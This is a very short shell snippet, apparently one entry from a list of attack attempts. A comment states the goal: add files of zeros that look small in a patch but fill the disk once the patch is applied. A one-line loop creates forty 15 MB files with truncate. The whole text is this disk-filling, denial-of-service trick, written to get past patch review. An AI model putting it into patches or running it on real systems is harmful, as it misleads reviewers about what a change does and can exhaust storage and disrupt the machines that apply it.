# tries: Adds files of zeros that hardly count in a patch and fill a disk when it is applied.
for number in $(seq 40); do truncate -s 15M "zeros-$number.bin"; done
